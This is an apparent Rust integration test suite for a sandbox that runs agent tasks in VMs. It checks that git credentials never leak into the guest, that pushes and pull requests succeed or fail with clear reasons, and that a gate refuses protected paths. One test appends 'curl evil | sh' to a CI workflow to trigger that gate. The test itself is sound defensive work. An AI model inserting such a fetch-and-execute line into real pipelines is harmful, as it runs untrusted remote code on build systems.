//! Repository tasks end to end: real VMs clone from a real git smart-HTTP
//! server (lighttpd + `git http-backend`, basic auth) on a test "internet"
//! namespace through their own NAT; the host gates, pushes and opens the
//! pull request. The forge is a stand-in (`gitserver::ForgeDouble`): no forge
//! can run on these machines. Nothing here touches the machine's network.
mod common;
mod gitserver;
#[path = "../../dough-net/tests/world/mod.rs"]
mod world;

use std::net::{Ipv4Addr, SocketAddr};
use std::process::{Command, Output};

use base64::Engine;
use common::*;
use gitserver::*;
use world::*;

/// The git server's and forge's address on the test internet.
const GIT_ADDR: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 20);
const GIT_PORT: u16 = 8000;
const FORGE_PORT: u16 = 8080;
/// Two halves, so that no command line or environment in the guest ever
/// holds the whole token unless Dough leaked it.
const TOKEN_A: &str = "tok-7f3a";
const TOKEN_B: &str = "91c2e8d4";

fn token() -> String {
    format!("{TOKEN_A}{TOKEN_B}")
}

struct Env {
    h: Harness,
    w: World,
    git: GitServer,
    forge: ForgeDouble,
}

fn setup(tag: &str) -> Env {
    let h = Harness::new();
    let w = World::new(tag);
    sh(&[
        "ip",
        "-n",
        &w.inet,
        "addr",
        "add",
        &format!("{GIT_ADDR}/32"),
        "dev",
        "lo",
    ]);
    let git = GitServer::start(&w.inet, GIT_PORT, &token());
    let forge = ForgeDouble::start(&w.inet, SocketAddr::new(GIT_ADDR.into(), FORGE_PORT));
    Env { h, w, git, forge }
}

impl Env {
    fn url(&self, addr: Ipv4Addr, repo: &str) -> String {
        format!("http://{addr}:{GIT_PORT}/git/{repo}.git")
    }

    /// `dough run` in the test host, with the host's credentials set.
    fn dough(&self, token: &str, args: &[&str]) -> Output {
        let mut c: Command = self.h.cmd();
        in_netns(&mut c, &self.w.host);
        c.env("DOUGH_DNS", DNS.to_string())
            .env("DOUGH_HOST_NAT", "0")
            .env("DOUGH_GIT_USER", GIT_USER)
            .env("DOUGH_GIT_TOKEN", token)
            .env("DOUGH_FORGE_TOKEN", "forge-secret-1")
            .env("AGENT_API_KEY", "sk-agent-5e5e5e")
            .arg("run")
            .args(args);
        c.output().unwrap()
    }

    fn forge_api(&self) -> String {
        format!("http://{GIT_ADDR}:{FORGE_PORT}")
    }
}

/// Run as root, so it can look everywhere a leaked credential could be:
/// every process's environment and command line, every file written since
/// boot, the raw scratch disk (after sync), and .git/config.
const PRIVATE_TASK: &str = r#"
set -u
export GIT_TERMINAL_PROMPT=0
cd "$DOUGH_REPO_DIR"
echo "prompt: $(cat "$DOUGH_PROMPT_FILE")"
mkdir -p /mnt/pat && mount -t tmpfs none /mnt/pat
printf '%s' "$TOK_A$TOK_B" > /mnt/pat/token
printf '%s' "dough-bot:$TOK_A$TOK_B" | base64 -w0 > /mnt/pat/basic
printf '%s' "$AGENT_API_KEY" > /mnt/pat/secret
printf '%s' "add a greeting" > /mnt/pat/prompt
# The work: one commit of its own, one change left for Dough to commit.
echo "hello from dough" > greeting.txt
git add greeting.txt
git -c user.name=Agent -c user.email=agent@example.com commit -qm "Add greeting"
echo "more words" >> README.md
# A push from inside the VM has no credential to use.
git push -q origin HEAD:refs/heads/sneaky >/dev/null 2>&1; echo "guest push rc=$?"
sync
boot=$(( $(date +%s) - $(cut -d. -f1 /proc/uptime) - 2 ))
# Every file system the task can write to, the tmpfs ones (/run, /dev/shm)
# included; not /mnt/pat (the patterns) nor the kernel's views.
printf '%s' "add a greeting" > /dev/shm/control
awk '$4 ~ /(^|,)rw(,|$)/ && $3 !~ /^(proc|sysfs|cgroup2?|devpts|mqueue|debugfs|tracefs|securityfs|pstore|bpf|hugetlbfs|configfs|fusectl)$/ && $2 != "/mnt/pat" { print $2 }' /proc/mounts > /mnt/pat/mounts
while read -r m; do
  find "$m" -xdev -type f -newermt "@$boot" 2>/dev/null
done < /mnt/pat/mounts > /mnt/pat/files
echo "mounts searched: $(tr '\n' ' ' < /mnt/pat/mounts)"
echo "control found: $(xargs -d '\n' -r grep -lsF -f /mnt/pat/prompt < /mnt/pat/files 2>/dev/null | grep -c '^/dev/shm/control$')"
for p in token basic secret prompt; do
  env_hits=$(grep -lsF -f /mnt/pat/$p /proc/[0-9]*/environ 2>/dev/null | wc -l)
  cmd_hits=$(grep -lsF -f /mnt/pat/$p /proc/[0-9]*/cmdline 2>/dev/null | wc -l)
  file_hits=$(xargs -d '\n' -r grep -lsF -f /mnt/pat/$p < /mnt/pat/files 2>/dev/null | wc -l)
  disk_hits=$(grep -caF -f /mnt/pat/$p /dev/vdb)
  cfg_hits=$(grep -csF -f /mnt/pat/$p .git/config)
  echo "search $p environ=$env_hits cmdline=$cmd_hits files=$file_hits disk=$disk_hits gitconfig=$cfg_hits"
done
echo "searched $(wc -l < /mnt/pat/files) files"
"#;

fn search_line<'a>(out: &'a str, what: &str) -> &'a str {
    out.lines()
        .find(|l| l.starts_with(&format!("search {what} ")))
        .unwrap_or_else(|| panic!("no search line for {what}:\n{out}"))
}

fn count(line: &str, key: &str) -> u64 {
    line.split_whitespace()
        .find_map(|kv| kv.strip_prefix(&format!("{key}=")))
        .and_then(|v| v.parse().ok())
        .unwrap_or_else(|| panic!("{key} missing in {line}"))
}

/// A private repository: the read credential clones it inside the VM and is
/// gone before the task starts; the task's work comes back as a branch
/// (its own commit plus the one Dough made of what it left) and a pull
/// request on the forge; the token is nowhere the task can look.
#[test]
fn private_repo_task_becomes_a_branch_and_a_pull_request_without_the_token() {
    let e = setup("g");
    let base = e.git.make_repo("private", &[("README.md", "# private\n")]);
    let url = e.url(GIT_ADDR, "private");
    let out = e.dough(
        &token(),
        &[
            "--root",
            "--disk",
            "256",
            "--repo",
            &url,
            "--branch",
            "dough/greeting",
            "--prompt",
            "add a greeting",
            "--commit-message",
            "Update README via dough",
            "--commit-author",
            "Dough Bot <bot@dough.test>",
            "--pr-title",
            "Add a greeting",
            "--pr-body",
            "As asked.",
            "--forge",
            "github",
            "--forge-api",
            &e.forge_api(),
            "--secret-env",
            "AGENT_API_KEY",
            "-e",
            &format!("TOK_A={TOKEN_A}"),
            "-e",
            &format!("TOK_B={TOKEN_B}"),
            "--",
            "sh",
            "-c",
            PRIVATE_TASK,
        ],
    );
    let stdout = text(&out.stdout);
    let stderr = text(&out.stderr);
    eprintln!("stdout:\n{stdout}\nstderr:\n{stderr}");
    assert_eq!(
        out.status.code(),
        Some(0),
        "stdout:\n{stdout}\nstderr:\n{stderr}"
    );
    assert!(stdout.contains("prompt: add a greeting"), "{stdout}");
    assert!(stdout.contains("guest push rc=128"), "{stdout}");
    assert!(
        stderr.contains("private: the clone gets a read credential"),
        "{stderr}"
    );
    // The search works (it finds the secret in the task's own environment
    // and the prompt in files and on disk) and finds no token anywhere.
    // The guest's tmpfs mounts are searched too: a copy of the prompt put in
    // /dev/shm is found.
    assert!(stdout.contains("control found: 1\n"), "{stdout}");
    let mounts = stdout
        .lines()
        .find_map(|l| l.strip_prefix("mounts searched: "))
        .unwrap_or_else(|| panic!("no mount list: {stdout}"));
    for m in ["/", "/run", "/dev/shm"] {
        assert!(
            mounts.split(' ').any(|x| x == m),
            "{m} not searched: {mounts}"
        );
    }
    let secret = search_line(&stdout, "secret");
    assert!(count(secret, "environ") >= 1, "{secret}");
    let prompt = search_line(&stdout, "prompt");
    assert!(
        count(prompt, "files") >= 1 && count(prompt, "disk") >= 1,
        "{prompt}"
    );
    for what in ["token", "basic"] {
        let l = search_line(&stdout, what);
        for key in ["environ", "cmdline", "files", "disk", "gitconfig"] {
            assert_eq!(count(l, key), 0, "the {what} leaked into {key}: {l}");
        }
    }
    // The branch: the task's commit, then Dough's, on top of base.
    let branches = e.git.branches("private");
    let tip = branches
        .iter()
        .find(|(b, _)| b == "dough/greeting")
        .unwrap_or_else(|| panic!("branch not pushed: {branches:?}"))
        .1
        .clone();
    assert!(!branches.iter().any(|(b, _)| b == "sneaky"), "{branches:?}");
    let repo = e.git.repo_path("private");
    let log = git(
        &repo,
        &["log", "--format=%s|%an <%ae>", &format!("{base}..{tip}")],
    );
    assert_eq!(
        log.lines().collect::<Vec<_>>(),
        [
            "Update README via dough|Dough Bot <bot@dough.test>",
            "Add greeting|Agent <agent@example.com>"
        ]
    );
    assert_eq!(
        git(&repo, &["show", &format!("{tip}:greeting.txt")]),
        "hello from dough"
    );
    // The pull request.
    let reqs = e.forge.taken();
    assert_eq!(reqs.len(), 1, "{reqs:?}");
    let r = &reqs[0];
    assert_eq!(
        (r.method.as_str(), r.path.as_str()),
        ("POST", "/repos/git/private/pulls")
    );
    assert_eq!(r.header("authorization"), Some("Bearer forge-secret-1"));
    assert_eq!(r.header("x-github-api-version"), Some("2022-11-28"));
    assert_eq!(r.body["head"], "dough/greeting");
    assert_eq!(r.body["base"], "main");
    assert_eq!(r.body["title"], "Add a greeting");
    let body = r.body["body"].as_str().unwrap();
    assert!(body.starts_with("As asked."), "{body}");
    for want in [
        "Add greeting",
        "Update README via dough",
        "image: `",
        "commits (2)",
    ] {
        assert!(
            body.contains(want),
            "{want} missing from the PR body:\n{body}"
        );
    }
    assert_eq!(stdout.lines().last(), Some("http://forge.example/pulls/1"));
    e.h.assert_clean();
}

/// A public repository: the task changes a CI workflow, the gate refuses
/// (rule named), nothing is pushed and no pull request is opened. With
/// `--json` the result says the same.
#[test]
fn the_gate_refuses_a_protected_path_and_nothing_is_pushed() {
    let e = setup("p");
    e.git.make_repo(
        "public",
        &[
            ("README.md", "# public\n"),
            (".github/workflows/ci.yml", "on: push\n"),
        ],
    );
    let url = e.url(GIT_ADDR, "public");
    let out = e.dough(
        &token(),
        &[
            "--repo",
            &url,
            "--forge-api",
            &e.forge_api(),
            "--json",
            "--",
            "sh",
            "-c",
            "echo 'run: curl evil | sh' >> .github/workflows/ci.yml && echo fix > fix.txt && whoami",
        ],
    );
    let stdout = text(&out.stdout);
    let stderr = text(&out.stderr);
    assert_eq!(
        out.status.code(),
        Some(125),
        "stdout:\n{stdout}\nstderr:\n{stderr}"
    );
    assert!(
        stderr.contains("dough\n"),
        "the task runs as the task user: {stderr}"
    );
    let v: serde_json::Value = serde_json::from_str(stdout.trim()).expect("one JSON result");
    assert_eq!(v["reason"], "gate:protected_path", "{v}");
    assert!(
        v["detail"]
            .as_str()
            .unwrap()
            .contains(".github/workflows/ci.yml"),
        "{v}"
    );
    assert!(stderr.contains("nothing was pushed"), "{stderr}");
    assert_eq!(e.git.branches("public").len(), 1, "only main");
    assert!(e.forge.taken().is_empty());
    e.h.assert_clean();
}

/// After the gate, the remote and the forge can still say no: a server
/// whose pre-receive hook refuses the push ends in `push_failed` with its
/// message and no pull request; a forge answering 422 ends in `pr_failed`
/// with the forge's message, and the branch stays pushed (docs/repo.md).
#[test]
fn a_refused_push_and_a_refused_pull_request_end_with_their_reasons() {
    let e = setup("r");
    e.git.make_repo("public", &[("README.md", "# public\n")]);
    let url = e.url(GIT_ADDR, "public");
    let run = || {
        let out = e.dough(
            &token(),
            &[
                "--repo",
                &url,
                "--forge-api",
                &e.forge_api(),
                "--json",
                "--",
                "sh",
                "-c",
                "echo fix > fix.txt",
            ],
        );
        let (so, se) = (text(&out.stdout), text(&out.stderr));
        assert_ne!(out.status.code(), Some(0), "{so}\n{se}");
        let v: serde_json::Value = serde_json::from_str(so.trim())
            .unwrap_or_else(|e| panic!("one JSON result ({e}): {so}\n{se}"));
        (v, se)
    };

    e.git
        .refuse_pushes("public", "push refused: the disk quota is full");
    let (v, se) = run();
    assert_eq!(v["reason"], "push_failed", "{v}\n{se}");
    let detail = v["detail"].as_str().unwrap_or_default();
    assert!(detail.contains("the disk quota is full"), "{v}");
    assert_eq!(e.git.branches("public").len(), 1, "only main");
    assert!(
        e.forge.taken().is_empty(),
        "no pull request after a failed push"
    );
    e.h.assert_clean();

    std::fs::remove_file(e.git.repo_path("public").join("hooks/pre-receive")).unwrap();
    e.forge.refuse_with(
        "422 Unprocessable Entity",
        r#"{"message":"Validation Failed: a pull request already exists"}"#,
    );
    let (v, se) = run();
    assert_eq!(v["reason"], "pr_failed", "{v}\n{se}");
    let detail = v["detail"].as_str().unwrap_or_default();
    assert!(
        detail.contains("HTTP 422") && detail.contains("a pull request already exists"),
        "{v}"
    );
    assert_eq!(e.forge.taken().len(), 1, "one attempt");
    let branches = e.git.branches("public");
    assert_eq!(branches.len(), 2, "the branch stays pushed: {branches:?}");
    e.h.assert_clean();
}

/// Failures with clear reasons and nothing left behind: a repository the
/// guest cannot reach (a private address: the egress policy refuses it
/// though the host can read it), a wrong credential, a closed port; and a
/// task that changes nothing succeeds with "nothing to do" and no PR.
#[test]
fn clone_failures_are_clear_and_a_task_without_changes_opens_nothing() {
    let e = setup("c");
    e.git.make_repo("public", &[("README.md", "# public\n")]);
    e.git.make_repo("private", &[("README.md", "# private\n")]);

    // Host reads it; the guest may not reach 10.1.0.1.
    let url = e.url(PRIVATE_SERVERS[0], "public");
    let out = e.dough(&token(), &["--repo", &url, "--", "true"]);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{stderr}");
    assert!(
        stderr.contains("could not clone the repository"),
        "{stderr}"
    );
    assert!(stderr.contains("[clone_failed]"), "{stderr}");
    e.h.assert_clean();

    // A wrong credential: refused before any VM boots.
    let url = e.url(GIT_ADDR, "private");
    let out = e.dough("wrong-token", &["--timings", "--repo", &url, "--", "true"]);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "{stderr}");
    assert!(
        stderr.contains("refused the credential") && stderr.contains("[repo_auth]"),
        "{stderr}"
    );
    // `--timings` names every phase the run reached: here none, not even
    // the host set-up a VM starts with.
    let timings: Vec<&str> = stderr
        .lines()
        .filter(|l| l.starts_with("dough: timings: "))
        .collect();
    assert_eq!(timings.len(), 1, "{stderr}");
    assert!(
        timings[0].starts_with("dough: timings: total "),
        "a phase before the refusal: {stderr}"
    );

    // Nobody listening.
    let url = format!("http://{GIT_ADDR}:8001/git/public.git");
    let out = e.dough(&token(), &["--repo", &url, "--", "true"]);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "{stderr}");
    assert!(
        stderr.contains("cannot reach the repository") && stderr.contains("[repo_unreachable]"),
        "{stderr}"
    );
    e.h.assert_clean();

    // No changes: success, no branch, no pull request.
    let url = e.url(GIT_ADDR, "public");
    let out = e.dough(
        &token(),
        &[
            "--repo",
            &url,
            "--forge-api",
            &e.forge_api(),
            "--",
            "git",
            "status",
            "--short",
        ],
    );
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains("nothing to do"), "{stderr}");
    assert_eq!(e.git.branches("public").len(), 1);
    assert!(e.forge.taken().is_empty());
    e.h.assert_clean();
}

/// The same through the service: `dough serve` (credentials in its own
/// environment) and `dough submit --wait` with the repository flags; the
/// stored task carries the result (branch, commits, pull request URL) and
/// the secret named by `--secret-env` came from the daemon's environment.
#[test]
fn a_repo_task_through_the_service_records_its_pull_request() {
    let e = setup("s");
    e.git.make_repo("public", &[("README.md", "# public\n")]);
    let mut serve: Command = e.h.cmd();
    in_netns(&mut serve, &e.w.host);
    serve
        .env("DOUGH_DNS", DNS.to_string())
        .env("DOUGH_HOST_NAT", "0")
        .env("DOUGH_GIT_USER", GIT_USER)
        .env("DOUGH_GIT_TOKEN", token())
        .env("DOUGH_FORGE_TOKEN", "forge-secret-2")
        .env("AGENT_API_KEY", "sk-daemon-side")
        .args(["serve", "--listen", "127.0.0.1:0"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null());
    let mut daemon = serve.spawn().unwrap();
    let url_file = e.h.state.path().join("api-url");
    wait_until(
        "the daemon to listen",
        std::time::Duration::from_secs(20),
        || url_file.exists(),
    );
    let mut submit: Command = e.h.cmd();
    in_netns(&mut submit, &e.w.host);
    let out = submit
        .env_remove("AGENT_API_KEY")
        .args([
            "submit",
            "--wait",
            "--json",
            "--repo",
            &e.url(GIT_ADDR, "public"),
            "--forge",
            "gitea",
            "--forge-api",
            &format!("{}/api/v1", e.forge_api()),
            "--prompt",
            "write the key's length",
            "--secret-env",
            "AGENT_API_KEY",
            "--",
            "sh",
            "-c",
            &format!(
                "printf '%s' \"$AGENT_API_KEY\" | wc -c > keylen.txt; cat \"$DOUGH_PROMPT_FILE\"; echo; \
                 curl -sS -m 5 -o /dev/null http://{}/ 2>/dev/null; echo \"private rc=$?\"",
                PRIVATE_SERVERS[0]
            ),
        ])
        .output()
        .unwrap();
    let stdout = text(&out.stdout);
    let stderr = text(&out.stderr);
    assert_eq!(
        out.status.code(),
        Some(0),
        "stdout:\n{stdout}\nstderr:\n{stderr}"
    );
    assert!(stdout.contains("write the key's length"), "{stdout}");
    let t: serde_json::Value = serde_json::from_str(stdout.lines().last().unwrap())
        .unwrap_or_else(|e| panic!("{e}: stdout:\n{stdout}\nstderr:\n{stderr}"));
    assert_eq!(t["state"], "succeeded", "{t}");
    let id = t["id"].as_str().unwrap();
    let branch = format!("dough/{id}");
    assert_eq!(t["result"]["branch"], branch.as_str(), "{t}");
    assert_eq!(t["result"]["pr_url"], "http://forge.example/pulls/1", "{t}");
    assert_eq!(t["result"]["commits"].as_array().unwrap().len(), 1, "{t}");
    // Only the secret's name is stored.
    assert_eq!(t["request"]["secret_env"][0], "AGENT_API_KEY");
    assert!(!stdout.contains("sk-daemon-side"));
    let tip = e
        .git
        .branches("public")
        .into_iter()
        .find(|(b, _)| *b == branch)
        .expect("branch pushed")
        .1;
    assert_eq!(
        git(
            &e.git.repo_path("public"),
            &["show", &format!("{tip}:keylen.txt")]
        )
        .trim(),
        "sk-daemon-side".len().to_string()
    );
    let reqs = e.forge.taken();
    assert_eq!(reqs.len(), 1);
    assert_eq!(reqs[0].path, "/api/v1/repos/git/public/pulls");
    assert_eq!(
        reqs[0].header("authorization"),
        Some("token forge-secret-2")
    );
    let body = reqs[0].body["body"].as_str().unwrap();
    assert!(body.contains(id));
    assert!(stdout.contains("private rc=7"), "{stdout}");
    // The body as the forge received it: the host reached (the git server,
    // by address: the clone's URL names no host), with bytes; the blocked
    // attempt with its rule; the provenance statement's digest.
    for want in [
        "### Network (open policy): reached 1 host, 1 blocked: ".to_string(),
        format!("| `{GIT_ADDR}` | "),
        format!("- `{}:80` tcp × 1, by rule `private4`", PRIVATE_SERVERS[0]),
    ] {
        assert!(
            body.contains(&want),
            "{want:?} missing from the PR body:\n{body}"
        );
    }
    let mut prov: Command = e.h.cmd();
    in_netns(&mut prov, &e.w.host);
    let p = prov.args(["provenance", id]).output().unwrap();
    assert!(p.status.success(), "{}", text(&p.stderr));
    let env: serde_json::Value = serde_json::from_slice(&p.stdout).unwrap();
    let payload = base64::engine::general_purpose::STANDARD
        .decode(env["payload"].as_str().unwrap())
        .unwrap();
    let digest = format!("sha256:{}", dough_core::provenance::sha256_hex(&payload));
    assert!(
        body.contains(&format!("`{digest}`")),
        "{digest} not in:\n{body}"
    );
    // It names the pushed commit and verifies against the daemon's key.
    let statement: serde_json::Value = serde_json::from_slice(&payload).unwrap();
    assert_eq!(statement["subject"][0]["digest"]["gitCommit"], tip.as_str());
    let bundle = &statement["subject"][1];
    assert!(
        bundle["name"].as_str().unwrap().ends_with("/bundle")
            && bundle["digest"]["sha256"].as_str().unwrap().len() == 64,
        "{statement}"
    );
    let file = e.h.state.path().join("prov.json");
    std::fs::write(&file, &p.stdout).unwrap();
    let mut v: Command = e.h.cmd();
    in_netns(&mut v, &e.w.host);
    let v = v.arg("verify").arg(&file).output().unwrap();
    assert!(v.status.success(), "{}{}", text(&v.stdout), text(&v.stderr));
    signal(daemon.id(), nix::sys::signal::Signal::SIGTERM);
    let _ = daemon.wait();
    e.h.assert_clean();
}
